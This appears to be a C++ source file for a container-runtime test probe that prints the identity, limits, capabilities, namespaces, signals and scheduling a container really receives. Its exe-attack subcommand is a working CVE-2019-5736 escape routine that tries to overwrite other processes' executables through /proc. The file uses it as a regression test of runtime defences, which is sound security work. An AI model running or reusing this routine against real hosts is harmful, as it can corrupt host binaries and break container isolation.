// ocrt-probe: runs inside a container and prints what the kernel really applied,
// one `key=value` per line, so integration tests can compare it with config.json.
// Linked statically so it runs in a rootfs that has no libc of its own.
//
//   ocrt-probe all              identity, limits, caps, namespaces, fds, clocks, env
//   ocrt-probe mounts           /proc/self/mountinfo verbatim
//   ocrt-probe write-file PATH  create/truncate PATH; exit 0, or 1 with the errno text
//   ocrt-probe exit N           exit with status N
//   ocrt-probe sleep S          sleep S seconds (fractions allowed)
//   ocrt-probe signals          blocked/ignored signal masks and the dispositions
//   ocrt-probe keyring          the session keyring's id and description
//   ocrt-probe exe-attack S     for S seconds, try to write every /proc/<pid>/exe
//                               (CVE-2019-5736 style) and report what happened
//   ocrt-probe notify MSG       send MSG as one datagram to $NOTIFY_SOCKET (sd_notify)
//   ocrt-probe syscall NR [A..] syscall(NR, A...) with numeric args (0x.. allowed);
//                               prints result=R and errno=E (0 on success)
//   ocrt-probe sched            sched_getattr policy/nice/priority/flags, ioprio_get
//                               class/priority, sched_getaffinity CPU list
//
// Plain libc only: no iostreams, no NSS, nothing that needs files the rootfs lacks.

#include <dirent.h>
#include <fcntl.h>
#include <grp.h>
#include <sched.h>
#include <linux/keyctl.h>
#include <signal.h>
#include <sys/syscall.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <sys/utsname.h>
#include <time.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <climits>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <vector>

extern char **environ;

namespace {

void print_kv(const char *key, const std::string &value) { std::printf("%s=%s\n", key, value.c_str()); }

void print_kv(const char *key, long long value) { std::printf("%s=%lld\n", key, value); }

std::string join_numbers(const std::vector<long long> &numbers) {
    std::string out;
    for (size_t i = 0; i < numbers.size(); ++i) {
        if (i) out += ',';
        out += std::to_string(numbers[i]);
    }
    return out;
}

void print_identity() {
    print_kv("uid", static_cast<long long>(getuid()));
    print_kv("gid", static_cast<long long>(getgid()));
    print_kv("euid", static_cast<long long>(geteuid()));
    print_kv("egid", static_cast<long long>(getegid()));
    int count = getgroups(0, nullptr);
    std::vector<gid_t> groups(count > 0 ? static_cast<size_t>(count) : 0);
    if (count > 0) count = getgroups(count, groups.data());
    std::vector<long long> as_numbers;
    for (int i = 0; i < count; ++i) as_numbers.push_back(groups[static_cast<size_t>(i)]);
    print_kv("groups", join_numbers(as_numbers));
    // umask() can only be read by setting it; put it straight back.
    mode_t mask = umask(0);
    umask(mask);
    char octal[8];
    std::snprintf(octal, sizeof octal, "%04o", static_cast<unsigned>(mask));
    print_kv("umask", octal);
    char cwd[PATH_MAX];
    print_kv("cwd", getcwd(cwd, sizeof cwd) ? std::string(cwd) : std::string("error: ") + std::strerror(errno));
    print_kv("pid", static_cast<long long>(getpid()));
    print_kv("ppid", static_cast<long long>(getppid()));
}

void print_uts() {
    struct utsname names {};
    if (uname(&names) != 0) {
        print_kv("hostname", std::string("error: ") + std::strerror(errno));
        return;
    }
    print_kv("hostname", names.nodename);
    print_kv("domainname", names.domainname);
}

std::string limit_text(rlim_t value) {
    return value == RLIM_INFINITY ? std::string("unlimited") : std::to_string(static_cast<unsigned long long>(value));
}

void print_rlimits() {
    struct Named {
        const char *name;
        int resource;
    };
    static const Named limits[] = {
        {"AS", RLIMIT_AS},         {"CORE", RLIMIT_CORE},         {"CPU", RLIMIT_CPU},
        {"DATA", RLIMIT_DATA},     {"FSIZE", RLIMIT_FSIZE},       {"LOCKS", RLIMIT_LOCKS},
        {"MEMLOCK", RLIMIT_MEMLOCK}, {"MSGQUEUE", RLIMIT_MSGQUEUE}, {"NICE", RLIMIT_NICE},
        {"NOFILE", RLIMIT_NOFILE}, {"NPROC", RLIMIT_NPROC},       {"RSS", RLIMIT_RSS},
        {"RTPRIO", RLIMIT_RTPRIO}, {"RTTIME", RLIMIT_RTTIME},     {"SIGPENDING", RLIMIT_SIGPENDING},
        {"STACK", RLIMIT_STACK},
    };
    for (const Named &limit : limits) {
        struct rlimit value {};
        std::string key = std::string("rlimit.") + limit.name;
        if (getrlimit(limit.resource, &value) != 0) {
            print_kv(key.c_str(), std::string("error: ") + std::strerror(errno));
            continue;
        }
        print_kv(key.c_str(), limit_text(value.rlim_cur) + "/" + limit_text(value.rlim_max));
    }
}

// Security-relevant lines of /proc/self/status, copied under their own names.
void print_status_fields() {
    static const char *wanted[] = {"NoNewPrivs", "CapEff", "CapPrm", "CapBnd", "CapInh", "CapAmb", "Seccomp"};
    FILE *status = std::fopen("/proc/self/status", "re");
    if (!status) {
        print_kv("status", std::string("error: ") + std::strerror(errno));
        return;
    }
    char line[512];
    while (std::fgets(line, sizeof line, status)) {
        char *colon = std::strchr(line, ':');
        if (!colon) continue;
        *colon = '\0';
        for (const char *name : wanted) {
            if (std::strcmp(line, name) != 0) continue;
            char *value = colon + 1;
            while (*value == ' ' || *value == '\t') ++value;
            value[std::strcspn(value, "\n")] = '\0';
            print_kv(name, value);
        }
    }
    std::fclose(status);
}

// Descriptors the process inherited; the directory stream's own fd is left out.
void print_fds() {
    DIR *dir = opendir("/proc/self/fd");
    if (!dir) {
        print_kv("fds", std::string("error: ") + std::strerror(errno));
        return;
    }
    std::vector<long long> fds;
    int own = dirfd(dir);
    while (struct dirent *entry = readdir(dir)) {
        if (entry->d_name[0] == '.') continue;
        long long fd = std::atoll(entry->d_name);
        if (fd != own) fds.push_back(fd);
    }
    closedir(dir);
    std::sort(fds.begin(), fds.end());
    print_kv("fds", join_numbers(fds));
}

// keyring.session=<serial> of our session keyring (exec: the container's, not the caller's).
void print_session_keyring() {
    long serial = syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0);
    if (serial < 0)
        print_kv("keyring.session", std::string("error: ") + std::strerror(errno));
    else
        print_kv("keyring.session", static_cast<long long>(serial));
}

// ns.<type>=<inode>, taken from the "type:[inode]" link text.
void print_namespaces() {
    static const char *types[] = {"cgroup", "ipc", "mnt", "net", "pid", "pid_for_children",
                                  "time", "time_for_children", "user", "uts"};
    for (const char *type : types) {
        std::string key = std::string("ns.") + type;
        std::string link = std::string("/proc/self/ns/") + type;
        char target[128];
        ssize_t length = readlink(link.c_str(), target, sizeof target - 1);
        if (length < 0) {
            print_kv(key.c_str(), std::string("error: ") + std::strerror(errno));
            continue;
        }
        target[length] = '\0';
        const char *open_bracket = std::strchr(target, '[');
        std::string inode = open_bracket ? std::string(open_bracket + 1) : std::string(target);
        if (!inode.empty() && inode.back() == ']') inode.pop_back();
        print_kv(key.c_str(), inode);
    }
}

// Whole seconds of the clocks a time namespace can shift.
void print_clocks() {
    struct timespec now {};
    clock_gettime(CLOCK_MONOTONIC, &now);
    print_kv("clock.monotonic", static_cast<long long>(now.tv_sec));
    clock_gettime(CLOCK_BOOTTIME, &now);
    print_kv("clock.boottime", static_cast<long long>(now.tv_sec));
}

void print_env() {
    for (char **entry = environ; entry && *entry; ++entry) std::printf("env.%s\n", *entry);
}

int copy_file_to_stdout(const char *path) {
    FILE *file = std::fopen(path, "re");
    if (!file) {
        std::fprintf(stderr, "ocrt-probe: open \"%s\": %s\n", path, std::strerror(errno));
        return 1;
    }
    char buffer[4096];
    size_t got;
    while ((got = std::fread(buffer, 1, sizeof buffer, file)) > 0) std::fwrite(buffer, 1, got, stdout);
    std::fclose(file);
    return 0;
}

int write_file(const char *path) {
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
    if (fd < 0) {
        int saved = errno;
        std::printf("write-file=error: %s\n", std::strerror(saved));
        return 1;
    }
    static const char content[] = "written by ocrt-probe\n";
    ssize_t written = write(fd, content, sizeof content - 1);
    int saved = errno;
    close(fd);
    if (written != static_cast<ssize_t>(sizeof content - 1)) {
        std::printf("write-file=error: %s\n", std::strerror(saved));
        return 1;
    }
    std::printf("write-file=ok\n");
    return 0;
}

int sleep_seconds(const char *text) {
    char *end = nullptr;
    double seconds = std::strtod(text, &end);
    if (end == text || *end != '\0' || seconds < 0) {
        std::fprintf(stderr, "ocrt-probe: bad duration \"%s\"\n", text);
        return 2;
    }
    struct timespec wanted {};
    wanted.tv_sec = static_cast<time_t>(seconds);
    wanted.tv_nsec = static_cast<long>((seconds - static_cast<double>(wanted.tv_sec)) * 1e9);
    while (nanosleep(&wanted, &wanted) != 0 && errno == EINTR) {
    }
    return 0;
}

// sd_notify(3) without libsystemd: one datagram to the path in $NOTIFY_SOCKET.
int notify(const char *message) {
    const char *path = std::getenv("NOTIFY_SOCKET");
    struct sockaddr_un address {};
    address.sun_family = AF_UNIX;
    if (!path || std::strlen(path) >= sizeof address.sun_path) {
        std::printf("notify=error: NOTIFY_SOCKET unset or too long\n");
        return 1;
    }
    std::strcpy(address.sun_path, path);
    int sock = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    ssize_t sent = sock < 0 ? -1
                            : sendto(sock, message, std::strlen(message), MSG_NOSIGNAL,
                                     reinterpret_cast<struct sockaddr *>(&address), sizeof address);
    int saved = errno;
    if (sock >= 0) close(sock);
    if (sent < 0) {
        std::printf("notify=error: %s\n", std::strerror(saved));
        return 1;
    }
    std::printf("notify=ok\n");
    return 0;
}

// Raw syscall with up to six numeric arguments: seccomp tests check what the filter returns.
int raw_syscall(int argc, char **argv) {
    long nr = std::strtol(argv[2], nullptr, 0);
    long args[6] = {};
    for (int i = 3; i < argc && i < 9; ++i) args[i - 3] = static_cast<long>(std::strtoull(argv[i], nullptr, 0));
    errno = 0;
    long result = ::syscall(nr, args[0], args[1], args[2], args[3], args[4], args[5]);
    int err = result == -1 ? errno : 0;
    std::printf("result=%ld\nerrno=%d\n", result, err);
    return 0;
}

// Masks from the kernel plus the dispositions seen through sigaction (1..64).
int print_signals() {
    FILE *status = std::fopen("/proc/self/status", "re");
    if (!status) return 1;
    char line[512];
    while (std::fgets(line, sizeof line, status)) {
        if (std::strncmp(line, "SigBlk:", 7) != 0 && std::strncmp(line, "SigIgn:", 7) != 0) continue;
        line[6] = '\0';
        char *value = line + 7;
        while (*value == ' ' || *value == '\t') ++value;
        value[std::strcspn(value, "\n")] = '\0';
        print_kv(line, value);
    }
    std::fclose(status);
    std::vector<long long> not_default;
    for (int sig = 1; sig < NSIG; ++sig) {
        struct sigaction action {};
        if (sigaction(sig, nullptr, &action) == 0 && action.sa_handler != SIG_DFL) not_default.push_back(sig);
    }
    print_kv("signals.not_default", join_numbers(not_default));
    return 0;
}

int print_keyring() {
    long id = syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0);
    if (id < 0) {
        print_kv("keyring.session", std::string("error: ") + std::strerror(errno));
        return 1;
    }
    print_kv("keyring.session", static_cast<long long>(id));
    char description[256] = {};
    long length = syscall(SYS_keyctl, KEYCTL_DESCRIBE, id, description, sizeof description - 1);
    // "type;uid;gid;perm;name": keep the name.
    const char *name = length > 0 ? std::strrchr(description, ';') : nullptr;
    print_kv("keyring.session.name", name ? std::string(name + 1) : std::string("error: ") + std::strerror(errno));
    return 0;
}

// The CVE-2019-5736 attack from inside a container: grab a handle on the exe of every
// other process, then keep trying to reopen it for writing (the host binary stops
// being "busy" once the runtime process leaves it) and write to its start.
int exe_attack(const char *seconds_text) {
    double seconds = std::strtod(seconds_text, nullptr);
    struct Target {
        int fd;
        std::string link;
    };
    std::vector<Target> targets;
    std::vector<std::string> seen;
    long long written = 0, opened_for_write = 0;
    std::string last_error = "none";
    struct timespec start {}, now {};
    clock_gettime(CLOCK_MONOTONIC, &start);
    pid_t self = getpid();
    do {
        if (DIR *proc = opendir("/proc")) {
            while (struct dirent *entry = readdir(proc)) {
                pid_t pid = std::atoi(entry->d_name);
                if (pid <= 0 || pid == self) continue;
                std::string exe = std::string("/proc/") + entry->d_name + "/exe";
                char link[512];
                ssize_t length = readlink(exe.c_str(), link, sizeof link - 1);
                if (length <= 0) continue;
                link[length] = '\0';
                std::string key = std::string(entry->d_name) + ":" + link;
                if (std::find(seen.begin(), seen.end(), key) != seen.end()) continue;
                int fd = open(exe.c_str(), O_RDONLY | O_CLOEXEC);
                if (fd < 0) {
                    last_error = "open " + exe + ": " + std::strerror(errno);
                    continue;
                }
                seen.push_back(key);
                targets.push_back({fd, link});
            }
            closedir(proc);
        }
        for (const Target &target : targets) {
            std::string reopen = "/proc/self/fd/" + std::to_string(target.fd);
            int fd = open(reopen.c_str(), O_WRONLY | O_CLOEXEC);
            if (fd < 0) {
                last_error = "open for write " + target.link + ": " + std::strerror(errno);
                continue;
            }
            ++opened_for_write;
            if (pwrite(fd, "PWNED", 5, 0) == 5) {
                ++written;
            } else {
                last_error = "write " + target.link + ": " + std::strerror(errno);
            }
            close(fd);
        }
        struct timespec pause {0, 10 * 1000 * 1000};
        nanosleep(&pause, nullptr);
        clock_gettime(CLOCK_MONOTONIC, &now);
    } while (static_cast<double>(now.tv_sec - start.tv_sec) + static_cast<double>(now.tv_nsec - start.tv_nsec) / 1e9 <
             seconds);
    std::string links;
    for (const Target &target : targets) links += (links.empty() ? "" : ",") + target.link;
    print_kv("exe_attack.targets", links);
    print_kv("exe_attack.opened_for_write", opened_for_write);
    print_kv("exe_attack.written", written);
    print_kv("exe_attack.last_error", last_error);
    return 0;
}

// The kernel's struct sched_attr, first version (SCHED_ATTR_SIZE_VER0).
struct SchedAttrV0 {
    unsigned size, policy;
    unsigned long long flags;
    int nice;
    unsigned priority;
    unsigned long long runtime, deadline, period;
};

const char *policy_name(unsigned policy) {
    static const char *const names[] = {"SCHED_OTHER", "SCHED_FIFO", "SCHED_RR",      "SCHED_BATCH",
                                        "SCHED_ISO",   "SCHED_IDLE", "SCHED_DEADLINE"};
    return policy < sizeof names / sizeof names[0] ? names[policy] : "unknown";
}

// "0-3,7", as in /proc/<pid>/status Cpus_allowed_list.
std::string cpu_ranges(const cpu_set_t &set) {
    std::string out;
    for (int cpu = 0; cpu < CPU_SETSIZE; ++cpu) {
        if (!CPU_ISSET(cpu, &set)) continue;
        int last = cpu;
        while (last + 1 < CPU_SETSIZE && CPU_ISSET(last + 1, &set)) ++last;
        if (!out.empty()) out += ',';
        out += std::to_string(cpu);
        if (last > cpu) out += "-" + std::to_string(last);
        cpu = last;
    }
    return out;
}

int print_sched() {
    SchedAttrV0 attr {};
    if (syscall(SYS_sched_getattr, 0, &attr, sizeof attr, 0) != 0) {
        print_kv("sched.policy", std::string("error: ") + std::strerror(errno));
        return 1;
    }
    print_kv("sched.policy", policy_name(attr.policy));
    print_kv("sched.nice", static_cast<long long>(attr.nice));
    print_kv("sched.priority", static_cast<long long>(attr.priority));
    print_kv("sched.flags", static_cast<long long>(attr.flags));
    print_kv("sched.runtime", static_cast<long long>(attr.runtime));
    print_kv("sched.deadline", static_cast<long long>(attr.deadline));
    print_kv("sched.period", static_cast<long long>(attr.period));
    // ioprio_get(IOPRIO_WHO_PROCESS = 1, 0): class in bits 13.., level below.
    long ioprio = syscall(SYS_ioprio_get, 1, 0);
    if (ioprio < 0) {
        print_kv("ioprio.class", std::string("error: ") + std::strerror(errno));
    } else {
        static const char *const classes[] = {"IOPRIO_CLASS_NONE", "IOPRIO_CLASS_RT", "IOPRIO_CLASS_BE",
                                              "IOPRIO_CLASS_IDLE"};
        long klass = (ioprio >> 13) & 0x7;
        print_kv("ioprio.class", klass < 4 ? classes[klass] : std::to_string(klass));
        print_kv("ioprio.priority", static_cast<long long>(ioprio & 0x7));
    }
    cpu_set_t set;
    CPU_ZERO(&set);
    if (sched_getaffinity(0, sizeof set, &set) != 0) {
        print_kv("affinity", std::string("error: ") + std::strerror(errno));
        return 1;
    }
    print_kv("affinity", cpu_ranges(set));
    return 0;
}

int usage() {
    std::fprintf(stderr,
                 "usage: ocrt-probe all | env | mounts | write-file PATH | exit N | sleep SECONDS | notify MSG\n"
                 "       ocrt-probe syscall NR [ARG...] | sched\n");
    return 2;
}

} // namespace

int main(int argc, char **argv) {
    if (argc < 2) return usage();
    std::string command = argv[1];
    if (command == "all" && argc == 2) {
        print_identity();
        print_uts();
        print_rlimits();
        print_status_fields();
        print_fds();
        print_namespaces();
        print_session_keyring();
        print_clocks();
        print_env();
        return 0;
    }
    if (command == "env" && argc == 2) {
        print_env();
        return 0;
    }
    if (command == "mounts" && argc == 2) return copy_file_to_stdout("/proc/self/mountinfo");
    if (command == "write-file" && argc == 3) return write_file(argv[2]);
    if (command == "exit" && argc == 3) return std::atoi(argv[2]);
    if (command == "sleep" && argc == 3) return sleep_seconds(argv[2]);
    if (command == "notify" && argc == 3) return notify(argv[2]);
    if (command == "signals" && argc == 2) return print_signals();
    if (command == "keyring" && argc == 2) return print_keyring();
    if (command == "exe-attack" && argc == 3) return exe_attack(argv[2]);
    if (command == "syscall" && argc >= 3 && argc <= 9) return raw_syscall(argc, argv);
    if (command == "sched" && argc == 2) return print_sched();
    return usage();
}
